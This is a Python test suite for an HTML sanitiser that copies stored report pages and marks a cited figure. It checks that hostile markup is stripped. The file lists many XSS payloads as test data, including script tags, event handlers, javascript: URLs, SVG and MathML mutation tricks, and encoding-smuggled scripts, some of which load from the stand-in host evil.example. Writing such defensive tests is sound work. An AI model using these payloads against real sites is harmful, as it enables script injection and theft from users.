"""A hostile page keeps its words and its marked place, and nothing that loads, runs or hides."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.safe_pages import Page, dangers, parsed
from tests.samples import NOW
from workbench.app.copies.making import make
from workbench.domain.fact import LocatorKind, Place
from workbench.domain.lookup import Snapshot

WORDS = "Equity 9.420.407 at the end"
PLACE = Place(LocatorKind.XPATH, "//*[@id='F1']", "9.420.407")
CLAIM = '<p>Equity <b id="F1">9.420.407</b> at the end</p>'

ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script that breaks out": "<script>'</script><script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a handler": '<p onclick="alert(1)" onmouseover=alert(2)></p><img src=x onerror=alert(1)>',
    "svg that runs": '<svg onload="alert(1)"><script>1</script><a xlink:href="javascript:1"/>',
    "svg that animates": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "a script address": '<a href="javascript:alert(1)"></a><a href=" java\tscript:alert(1)"></a>',
    "a page in an address": '<a href="data:text/html,<script>1</script>"></a>',
    "svg in an address": '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "a remote picture": '<img src="https://evil.example/p.png" srcset="https://evil.example/2x">',
    "a local file": '<img src="file:///etc/hostname"><img src="../x.png">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "a policy of its own": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "a base": '<base href="https://evil.example/"><a href="x"></a>',
    "styles that load": '<p style="background:url(https://evil.example/x)"></p>',
    "styles that load by escapes": '<p style="b\\61ckground:u\\72l(//x);text-align:url(x)"></p>',
    "a sheet of styles": "<style>@import url(//evil.example/x.css); b{background:url(x)}</style>",
    "a linked sheet": '<link rel="stylesheet" href="//x/x.css"><link rel=prefetch href=//x>',
    "frames": '<iframe src="//x"></iframe><iframe srcdoc="<script>1</script>"></iframe>',
    "a frameset": '<frameset><frame src="https://evil.example/"></frameset>',
    "objects": '<object data="x.swf"><embed src="x.swf"></object><applet code=x></applet>',
    "a form": '<form action="//x"><button formaction="javascript:1"></button></form>',
    "media": "<video src=//x poster=//y autoplay></video><audio src=//x></audio>",
    "a template": "<template><script>alert(1)</script></template>",
    "mathml": '<math><maction actiontype="statusline#http://x" xlink:href="javascript:1"/></math>',
    "a mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "a mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=1>"></noscript>',
    "raw text": "<xmp><img src=x onerror=alert(1)></xmp>",
    "a comment": "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=1>",
    "an instruction": "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "a mark like ours": '<mark id="place" autofocus class="place">false</mark>',
    "our own mark": f'<mark id="leadline-{"0" * 64}" autofocus>false</mark>',
    "broken tags": "<b <script>alert(1)</script> <<img src=x onerror=alert(1)//",
    "unclosed": "<img src='x' onerror='alert(1)' ",
}


def stored(content: bytes, media_type: str = "text/html; charset=utf-8") -> Snapshot:
    return Snapshot(
        sha256=bytes(32),
        content=content,
        media_type=media_type,
        address="https://register.example/",
        status=200,
        taken=NOW,
    )


def made(content: str | bytes, place: Place | None = PLACE, media_type: str = "text/html") -> Page:
    raw = content if isinstance(content, bytes) else content.encode()
    return parsed(make((stored(raw, media_type), place)).markup)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
@pytest.mark.parametrize("place", [PLACE, None], ids=["marked", "whole"])
def test_nothing_that_loads_or_runs_is_left(attack: str, place: Place | None) -> None:
    page = made(f"<html><body>{CLAIM}{attack}</body></html>", place)
    assert dangers(page) == []
    assert WORDS in page.text
    assert page.place == ("9.420.407" if place else "")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_around_the_place_leaves_it_marked_or_said(attack: str) -> None:
    content = f"<html><body>{attack}{CLAIM}</body></html>".encode()
    result = make((stored(content), PLACE))
    page = parsed(result.markup)
    assert dangers(page) == []
    assert page.place == ("9.420.407" if result.marked else "")


TAGS = st.sampled_from(
    ["a", "b", "div", "form", "iframe", "img", "li", "math", "p", "script", "select", "style"],
) | st.sampled_from(["svg", "table", "td", "template", "textarea", "title", "tr", "ix:nonFraction"])
NAMES = st.sampled_from(
    ["id", "class", "style", "src", "href", "onload", "onerror", "srcset", "autofocus", "hidden"]
)
VALUES = st.sampled_from(
    ["place", "javascript:alert(1)", "data:image/png;base64,AA", "data:text/html,x", "//x"]
) | st.sampled_from(["background:url(x)", "text-align:right", "F1", "display:none"])
PIECES = st.one_of(
    st.builds("<{} {}='{}'>".format, TAGS, NAMES, VALUES),
    st.builds("</{}>".format, TAGS),
    st.text(max_size=8),
    st.sampled_from(["<!--", "-->", "<![CDATA[", "]]>", "&#x202e;", "&lt;script&gt;", "<", "\0"]),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=25), st.lists(PIECES, max_size=10))
def test_whatever_a_page_is_made_of_nothing_loads_or_runs(
    before: list[str], after: list[str]
) -> None:
    content = f"<html><body>{''.join(before)}{CLAIM}{''.join(after)}</body></html>"
    result = make((stored(content.encode("utf-8", "replace")), PLACE))
    page = parsed(result.markup)
    assert dangers(page) == []
    ours = [named for _, named in page.tags if named.get("id") or "autofocus" in named]
    assert len(ours) == (1 if result.marked else 0)


@given(st.lists(st.sampled_from(["Fjord", "Sø", "31 480", "&amp;", "<b>x</b>", "<td>1", "<br>"])))
def test_all_words_that_are_seen_survive(pieces: list[str]) -> None:
    page = made(f"<html><body><table><tr><td>{' '.join(pieces)}</table></body></html>", None)
    sent = parsed(" ".join(pieces))
    assert "".join(page.text.split()) == "".join(sent.text.split())


def test_words_of_what_is_not_kept_do_not_run_into_each_other() -> None:
    page = made(
        "<form><select><option>One<option>Two</select><textarea>Three</textarea>"
        "<input value=Four><input type=hidden value=Secret><button>Five</button></form>"
        "<main>Six</main><nav>Seven</nav><img alt=Eight src=//x>",
        None,
    )
    assert page.text == "One Two Three Four Five Six Seven Eight"


@pytest.mark.parametrize(
    "hidden",
    [
        '<div style="display: none">Secret <b id="F1">9.420.407</b></div>',
        '<div hidden>Secret <b id="F1">9.420.407</b></div>',
        '<p style="color:red;VISIBILITY:hidden">Secret <b id="F1">9.420.407</b></p>',
        (
            '<ix:header xmlns:ix="http://www.xbrl.org/2013/inlineXBRL"><ix:hidden>Secret'
            ' <b id="F1">9.420.407</b></ix:hidden></ix:header>'
        ),
        '<p>Secret <b id="F1"></b></p>',
    ],
)
def test_a_place_that_nobody_sees_is_shown_apart(hidden: str) -> None:
    content = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{hidden}<p>Seen</p></body></html>'
    result = make((stored(content.encode(), "application/xhtml+xml"), PLACE))
    assert not result.marked
    assert result.apart is not None
    assert result.apart.marked


REPORT = """<html xmlns="http://www.w3.org/1999/xhtml" xmlns:h="http://www.w3.org/1999/xhtml"
xmlns:ix="http://www.xbrl.org/2013/inlineXBRL"><body><table>
<tr><td>Equity</td><td style="text-align:right;padding-left:4pt;color:white"><ix:nonFraction
id="F1" name="fsa:Equity">9.420.407</ix:nonFraction></td><h:td>8.000</h:td></tr>
<ix:nonNumeric id="F2" name="fsa:Rows"><tr><td>Debt</td><td>611</td></tr></ix:nonNumeric>
</table><ix:continuation id="F3"><div><p>One</p><p>Two</p></div></ix:continuation></body></html>"""


@pytest.mark.parametrize(
    ("path", "original", "marked"),
    [
        ("//*[@id='F1']", "9.420.407", "9.420.407"),
        ("//*[@id='F2']", "Debt611", "Debt 611"),
        ("//*[@id='F3']", "OneTwo", "One Two"),
        ("/*/*/*[1]/*[1]", "Equity", "Equity"),
        ("/*/*/*[1]/*[1]/*[1]", "Equity", "Equity"),
        ("/*/*/*[1]/*[1]", "all of it", "Equity 9.420.407 8.000"),
        ("/*/*/*[1]", "all of it", "Equity 9.420.407 8.000 Debt 611"),
    ],
)
def test_any_element_of_a_report_is_marked_where_it_stands(
    path: str, original: str, marked: str
) -> None:
    page = made(REPORT, Place(LocatorKind.XPATH, path, original), "application/xhtml+xml")
    assert page.place == marked
    assert page.text == "Equity 9.420.407 8.000 Debt 611 One Two"
    assert [tag for tag, _ in page.tags if tag == "td"] == ["td"] * 5
    assert sum("autofocus" in named for _, named in page.tags) == 1


@pytest.mark.parametrize(
    "words",
    [
        "We bought from Fjordlys\n  Automasjon AS in May",
        "From <i>Fjordlys</i> <b>Automasjon</b> AS in May",
        "From Fjordlys <b>Automasjon AS</b><p>in May</p>",
        "<script>Fjordlys Automasjon AS</script>Fjordlys Automasjon AS",
        "<p>Fjordlys</p> <p>Automasjon AS</p><p>in May</p>",
        "<table><tr><td>Fjordlys</td> <td>Automasjon AS</td> <td>in May</td></tr></table>",
    ],
)
def test_the_words_that_were_read_are_marked_and_not_all_that_stands_around_them(
    words: str,
) -> None:
    content = f"<html><body><div id='F1'>{words}</div></body></html>"
    place = Place(LocatorKind.XPATH, "//*[@id='F1']", "Fjordlys Automasjon AS")
    page = made(content, place)
    assert "".join(page.place.split()) == "FjordlysAutomasjonAS"
    assert sum("autofocus" in named for _, named in page.tags) == 1
    assert dangers(page) == []


def test_a_figure_is_not_marked_inside_another_one() -> None:
    content = "<html><body><p id='F1'>2025: 5 people</p></body></html>"
    place = Place(LocatorKind.XPATH, "//*[@id='F1']", "5")
    markup = make((stored(content.encode()), place)).markup.decode()
    assert '2025: <mark class="place" id="place" tabindex="-1" autofocus>5</mark> people' in markup


def test_styles_that_lay_out_are_kept_and_others_are_not() -> None:
    page = made(REPORT, None, "application/xhtml+xml")
    styles = [named["style"] for _, named in page.tags if "style" in named]
    assert styles == ["text-align:right;padding-left:4pt"]


def test_a_picture_inside_the_answer_is_kept() -> None:
    page = made('<p>x<img alt="Seal" src="data:image/png;base64,iVBORw0KGgo="></p>', None)
    [picture] = [named for tag, named in page.tags if tag == "img"]
    assert picture == {"alt": "Seal", "src": "data:image/png;base64,iVBORw0KGgo="}


@pytest.mark.parametrize("depth", [300, 1500, 5000])
def test_a_page_that_nests_enormously_keeps_its_words(depth: int) -> None:
    content = f"<html><body>{CLAIM}{'<div>' * depth}deep{'</div>' * depth}<p>end</p></body></html>"
    page = made(content)
    assert page.text == f"{WORDS} deep end"
    assert dangers(page) == []


@pytest.mark.parametrize("encoding", ["utf-8", "cp1252", "utf-16"])
@pytest.mark.parametrize("named", ["", "; charset=utf-8", "; charset=martian"])
def test_the_words_survive_a_wrong_charset(encoding: str, named: str) -> None:
    content = "<html><body><p>Sørensen <b id='F1'>9.420.407</b></p></body></html>"
    page = made(content.encode(encoding), PLACE, f"text/html{named}")
    assert page.text == "Sørensen 9.420.407"
    assert page.place == "9.420.407"


HIDDEN_IN_LETTERS = {
    "UTF-7": (b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "utf-7"),
    "UTF-16 that is none": (b"<script>alert(1)</script>", "utf-16"),
    "UTF-16 that is one": ("<script>alert(1)</script>".encode("utf-16"), "utf-16"),
    "ISO-2022-JP": (b"\x1b$B<script>\x1b(Balert(1)</script>", "iso-2022-jp"),
    "EBCDIC": ("<script>alert(1)</script>".encode("cp500"), "cp500"),
    "zeros in tags": (b"<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>", "utf-8"),
}


@pytest.mark.parametrize(
    ("attack", "charset"), HIDDEN_IN_LETTERS.values(), ids=HIDDEN_IN_LETTERS.keys()
)
def test_a_script_that_hides_in_how_letters_are_written_does_not_run(
    attack: bytes, charset: str
) -> None:
    for content in (attack, b"<html><body>" + attack + CLAIM.encode()):
        result = make((stored(content, f"text/html; charset={charset}"), None))
        assert dangers(parsed(result.markup)) == []
        # Our own page is UTF-8 and says so first, so nothing is read in another way than this.
        assert b"<script" not in result.markup.lower()


def test_marks_that_turn_or_hide_text_are_written_out() -> None:
    page = made("<p>Fjord\u202elys &#x2066;x\x01</p>", None)
    assert page.text == "Fjord[U+202E]lys [U+2066]x[U+0001]"
